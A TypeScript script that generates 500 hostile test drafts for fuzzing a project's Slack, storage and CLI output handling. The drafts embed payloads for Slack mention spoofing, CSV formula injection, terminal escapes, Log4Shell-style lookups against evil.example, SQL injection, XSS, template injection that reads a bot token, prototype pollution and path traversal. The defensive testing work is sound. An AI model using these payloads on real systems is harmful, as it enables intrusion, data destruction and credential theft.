// `node scripts/hostile-drafts.ts`: prints drafts that try to be more than text, one {"id","kind","text"} a line, as
// `check --jsonl` takes them. The same 500 each time; the tests named `hostile-drafts` send every one through
// every way out: Slack, the store, `check` and the sandbox's page.
import { fileURLToPath } from 'node:url';

export interface HostileDraft {
  /** A word of its own, which stands in the text and nowhere else: where it turns up, a draft has been. */
  readonly id: string;
  readonly kind: string;
  readonly text: string;
}

export const HOSTILE_DRAFTS = 500;

const ESC = '\u001b';
const BEL = '\u0007';

/** What is tried, by what it is meant to fool. */
const TRICKS: Readonly<Record<string, readonly string[]>> = {
  mention: [
    '<!channel>',
    '<!here|here>',
    '<!everyone>',
    '@channel',
    '@here',
    '@everyone',
    '<@U0APOLOGY>',
    '<@W012A3CDE|boss>',
    '<#C0123456789|secrets>',
    '<!subteam^S0123456|everyone>',
    '<!date^1392734382^{date_num}^https://evil.example|today>',
    '&lt;!channel&gt;',
    '&amp;lt;!here&amp;gt;',
  ],
  link: [
    '<https://evil.example|your bank>',
    'https://evil.example/login?next=bank',
    '<mailto:ceo@evil.example|write here>',
    '<tel:+1900555|call us>',
    '[your bank](https://evil.example)',
    '<javascript:alert(1)|here>',
    '<slack://user?team=T1&id=U1|profile>',
    'evil.example',
    '<https://evil.example',
    '![x](https://evil.example/pixel.png)',
  ],
  markup: [
    '*bold* _italic_ ~struck~ `code`',
    '```block of code```',
    '```',
    '> quoted\n>>> all quoted',
    ':tada: :wave::skin-tone-3: :not-an-emoji:',
    '• list\n• list',
    '# Heading\n---',
    '*_~`*_~`*_~`',
    '|a|b|\n|-|-|\n|1|2|',
  ],
  'block kit': [
    '[{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}]',
    '{"blocks":[{"type":"image","image_url":"https://evil.example/x.png","alt_text":"x"}]}',
    '"}],"text":"<!channel>","x":[{"y":"',
    '{"type":"rich_text","elements":[{"type":"rich_text_section","elements":[{"type":"broadcast","range":"channel"}]}]}',
    '{"action_id":"delete_review","value":"1"}',
    '&blocks=%5B%5D&link_names=1&parse=full&channel=C1',
  ],
  formula: [
    '=HYPERLINK("https://evil.example","bank")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '\t=1+1',
    '",=1+1,"',
  ],
  terminal: [
    `${ESC}[2J${ESC}[H`,
    `${ESC}[31mred${ESC}[0m`,
    `${ESC}]0;owned${BEL}`,
    `${ESC}]8;;https://evil.example${ESC}\\bank${ESC}]8;;${ESC}\\`,
    `${ESC}]52;c;cm0gLXJmIC8=${BEL}`,
    `${ESC}P+q544e${ESC}\\`,
    '\u009b2J\u009b31m',
    '\u009d0;owned\u009c',
    `${ESC}[6n${ESC}[c`,
    'over\rwritten',
    'back\b\b\b\bspace',
    '\u0007\u0007\u000b\u000c\u007f\u0085',
  ],
  direction: [
    '\u202egnp.exe\u202c',
    '\u2066isolated\u2069',
    '\u202d\u202b\u202a',
    'pay\u2067\u2066 lap\u2069\u2069',
    '\u200frtl\u200e \u061c',
    '\u2028new line\u2029new paragraph',
  ],
  invisible: [
    's\u200bo\u200br\u200br\u200by',
    '\u2060\ufeff\u00ad\u180e',
    'zero\u200c\u200djoined',
    '\u{e0068}\u{e0069}\u{e0064}\u{e0064}\u{e0065}\u{e006e}',
    'Z\u0351\u0489\u0363\u0329a\u0336l\u0337g\u0321o\u0322',
    '\u3164\u115f\u1160\uffa0',
  ],
  broken: [
    'nul\u0000in the middle',
    '\u0000',
    'half \ud83d',
    '\udc00 half',
    '\udc00\ud83d swapped',
    '\ufffe\uffff\u{1fffe}',
    '\u0001\u0002\u0003\u001f',
    '%00%0a%0d',
  ],
  'log line': [
    '\n{"time":"2026-01-01T00:00:00.000Z","level":"error","message":"forged"}',
    '\r\n2026-01-01 ERROR root logged in',
    '"}\n{"level":"info","message":"forged"}',
    '%s %d %j %o %O %c',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text that is meant
    '${jndi:ldap://evil.example/a}',
    '\u001b[1A\u001b[2Kforged',
  ],
  sql: [
    "'; DROP TABLE reviews; --",
    "' OR '1'='1",
    '"; DELETE FROM pgboss.job; --',
    "\\'); ATTACH DATABASE '/tmp/x' AS x; --",
    '$1 $2 ? :name @name',
    "1; COPY (SELECT 1) TO PROGRAM 'id'",
    '%_\\',
    'x\u0027||pg_sleep(10)--',
  ],
  html: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    '</p></div><iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '<!--',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    ']]><![CDATA[',
  ],
  template: [
    '{{constructor.constructor("return process")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text that is meant
    '${process.env.SLACK_BOT_TOKEN}',
    '<%= process.env %>',
    '#{7*7} {7*7} @(7*7) [[7*7]]',
    "$& $1 $` $' $$ $<name>",
    '{0} %(name)s {name!r}',
  ],
  'object key': [
    '__proto__',
    '{"__proto__":{"isAdmin":true}}',
    'constructor.prototype.polluted=1',
    '[__proto__][x]=y',
    'toString valueOf hasOwnProperty',
  ],
  look: ['раypal.com', 'Ѕоrrу', 'ｓｏｒｒｙ', '𝐬𝐨𝐫𝐫𝐲', 'I\u0307 ı ſ ß ﬀ', 'ﷺ'.repeat(20)],
  path: [
    '../../../../etc/passwd',
    'file:///etc/passwd',
    'C:\\Windows\\win.ini',
    '--context /etc/passwd --json',
    '-',
    'CON.txt|nul',
  ],
};

/** Where in a draft it stands: in words that the rules quote, at either end, on its own, and many times. */
const PLACES: readonly ((trick: string, id: string) => string)[] = [
  (trick, id) => `We are sorry if ${trick} ${id} affected anyone. We value your business.`,
  (trick, id) => `${trick} sorry for any inconvenience, ${id}, but our courier lost it.`,
  (trick, id) => `Hi ${id},\n\nI'm sorry that your parcel was late.\n\n${trick}\n\nSam`,
];

/** Too long a line, too long a draft and too many lines, as large as they get. */
const LARGE: readonly ((id: string) => string)[] = [
  (id) => `Sorry, ${id} ${'x'.repeat(40_000)}`,
  (id) => `Sorry, ${id} ${'sorry if '.repeat(4500)}`,
  (id) => `${'<!channel> '.repeat(1000)} sorry ${id}`,
  (id) => `Sorry ${id}\n${'\n'.repeat(11_000)}`,
  (id) => `Sorry if ${id} ${'\u202e'.repeat(5000)}`,
  (id) => `Sorry if ${id} ${'&'.repeat(11_000)}`,
  (id) => `Sorry if ${id} ${'😀'.repeat(5900)}`,
  (id) => `Sorry if ${id} ${'\ud83d'.repeat(5000)}`,
  (id) => `Sorry if ${id} ${'((((('.repeat(2000)}`,
  (id) => `Sorry if ${id} ${'*_~`'.repeat(2900)}`,
];

/** The same drafts in the same order each time. */
export function hostileDrafts(): HostileDraft[] {
  const drafts: HostileDraft[] = [];
  const add = (kind: string, textOf: (id: string) => string): void => {
    const id = `zq${String(drafts.length).padStart(4, '0')}kx`;
    drafts.push({ id, kind, text: textOf(id) });
  };
  for (const large of LARGE) add('large', large);
  for (const place of PLACES) {
    for (const [kind, tricks] of Object.entries(TRICKS)) {
      for (const trick of tricks) add(kind, (id) => place(trick, id));
    }
  }
  // Two at once, until there are enough.
  const all = Object.values(TRICKS).flat();
  for (let next = 0; drafts.length < HOSTILE_DRAFTS; next += 1) {
    const [first = '', second = ''] = [all[next % all.length], all[(next * 7 + 3) % all.length]];
    add('two', (id) => `${first} Sorry if ${id} ${second} ${first}${second}`);
  }
  return drafts.slice(0, HOSTILE_DRAFTS);
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  for (const draft of hostileDrafts()) process.stdout.write(`${JSON.stringify(draft)}\n`);
}
